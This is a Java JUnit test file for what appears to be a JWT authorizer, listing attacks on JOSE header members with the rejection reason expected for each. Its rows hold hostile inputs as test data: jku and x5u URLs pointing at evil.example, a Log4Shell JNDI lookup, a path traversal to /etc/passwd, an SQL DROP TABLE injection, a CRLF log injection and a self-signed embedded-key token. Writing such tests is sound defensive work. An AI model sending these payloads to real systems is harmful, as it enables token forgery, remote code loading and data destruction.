package dev.postern.authorizer;

import static dev.postern.authorizer.Attack.PASS;
import static dev.postern.authorizer.Attack.token;

import java.util.List;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.FieldSource;

/**
 * P and K: members of the JOSE header besides the algorithm (RFC 7515, section 4, RFC 8725, section
 * 3.10).
 */
class HeaderMemberAttacksTest {

  private static final String FORBIDDEN = "forbidden_header_member";
  private static final String TYPE = "wrong_type";
  private static final String KID = "wrong_key_id";
  private static final String UNKNOWN = "unknown_key";

  static final List<Attack> ROWS =
      List.of(
          with("P01", "crit", "[\"exp\"]", FORBIDDEN),
          with("P01", "crit", "[\"b64\"]", FORBIDDEN),
          with("P01", "crit", "[\"https://example.com/x\"]", FORBIDDEN),
          with("P02", "crit", "[]", FORBIDDEN),
          with("P02", "crit", "\"b64\"", FORBIDDEN),
          with("P02", "crit", "null", FORBIDDEN),
          with("P02", "crit", "[\"exp\",\"exp\"]", FORBIDDEN),
          with("P03", "b64", "false", FORBIDDEN),
          with("P03", "b64", "true", FORBIDDEN),
          with("P04", "jku", "\"https://tenant.eu.auth0.com@evil.example/jwks\"", FORBIDDEN),
          with("P04", "jku", "\"//evil.example\"", FORBIDDEN),
          with("P04", "jku", "\"https://tenant.eu.auth0.com.evil.example/\"", FORBIDDEN),
          token("P05", "jwk with its own key (CVE-2018-0114)", ownKey(), FORBIDDEN),
          with("P06", "x5u", "\"https://evil.example/c.pem\"", FORBIDDEN),
          with("P06", "x5c", "[\"MIIB\"]", FORBIDDEN),
          with("P06", "x5t", "\"YWJj\"", FORBIDDEN),
          with("P06", "x5t#S256", "\"YWJj\"", FORBIDDEN),
          with("P07", "x5t", "null", FORBIDDEN),
          with("P08", "zip", "\"DEF\"", FORBIDDEN),
          with("P08", "enc", "\"A256GCM\"", FORBIDDEN),
          with("P08", "epk", "{}", FORBIDDEN),
          with("P08", "apu", "\"YQ\"", FORBIDDEN),
          with("P08", "apv", "\"YQ\"", FORBIDDEN),
          with("P08", "iv", "\"YQ\"", FORBIDDEN),
          with("P08", "tag", "\"YQ\"", FORBIDDEN),
          with("P08", "p2s", "\"YQ\"", FORBIDDEN),
          with("P08", "p2c", "1000000000", FORBIDDEN),
          with("P09", "cty", "\"JWT\"", FORBIDDEN),
          token("P10", "no typ", TestToken.good().withoutHeader("typ"), PASS),
          with("P11", "typ", "\"JWT\"", PASS),
          with("P11", "typ", "\"jwt\"", PASS),
          with("P11", "typ", "\"at+jwt\"", PASS),
          with("P11", "typ", "\"AT+JWT\"", PASS),
          with("P11", "typ", "\"application/at+jwt\"", PASS),
          with("P11", "typ", "\"Application/At+Jwt\"", PASS),
          with("P11", "typ", "\"appl\u0130cation/at+jwt\"", TYPE),
          with("P11", "typ", "\"appl\u0131cation/at+jwt\"", TYPE),
          with("P12", "typ", "\"dpop+jwt\"", TYPE),
          with("P12", "typ", "\"logout+jwt\"", TYPE),
          with("P12", "typ", "\"secevent+jwt\"", TYPE),
          with("P12", "typ", "\"token-introspection+jwt\"", TYPE),
          with("P12", "typ", "\"oauth-authz-req+jwt\"", TYPE),
          with("P12", "typ", "\"id_token+jwt\"", TYPE),
          with("P12", "typ", "\"kb+jwt\"", TYPE),
          with("P12", "typ", "\"vc+jwt\"", TYPE),
          with("P12", "typ", "\"JWE\"", TYPE),
          with("P12", "typ", "\"\"", TYPE),
          with("P12", "typ", "\"JWT \"", TYPE),
          with("P13", "typ", "1", TYPE),
          with("P13", "typ", "[\"JWT\"]", TYPE),
          with("P13", "typ", "null", TYPE),
          with("P14", "foo", "1", PASS),
          token("K01", "no kid, one key", TestToken.good().withoutHeader("kid"), KID),
          with("K03", "kid", "7", KID),
          with("K03", "kid", "[\"key-1\"]", KID),
          with("K03", "kid", "{}", KID),
          with("K03", "kid", "null", KID),
          with("K03", "kid", "\"\"", KID),
          with("K04", "kid", "\"../../etc/passwd\"", UNKNOWN),
          with("K04", "kid", "\"'; DROP TABLE keys; --\"", UNKNOWN),
          with("K04", "kid", "\"${jndi:ldap://evil.example/a}\"", UNKNOWN),
          with("K04", "kid", "\"https://evil.example/jwks\"", UNKNOWN),
          with("K05", "kid", "\"a\\r\\n{\\\"level\\\":\\\"INFO\\\"}\"", KID),
          with("K06", "kid", "\"null-kid\"", UNKNOWN),
          with("K07", "kid", "\"" + "k".repeat(256) + "\"", UNKNOWN),
          with("K07", "kid", "\"" + "k".repeat(257) + "\"", KID),
          with("K08", "kid", "\"KEY-1\"", UNKNOWN),
          with("K08", "kid", "\"key-1 \"", UNKNOWN),
          with("K08", "kid", "\"\uFF4Bey-1\"", UNKNOWN));

  @ParameterizedTest(name = "{0}")
  @FieldSource("ROWS")
  void answers(Attack attack) {
    attack.run();
  }

  private static Attack with(String id, String member, String json, String reason) {
    String shown = json.length() > 40 ? json.length() + " characters" : json;
    return token(id, member + " " + shown, TestToken.good().header(member, json), reason);
  }

  private static String ownKey() {
    return TestToken.good()
        .header("jwk", TestKeys.jwk(TestKeys.KID, TestKeys.ATTACKER))
        .sign(TestKeys.ATTACKER.getPrivate());
  }
}
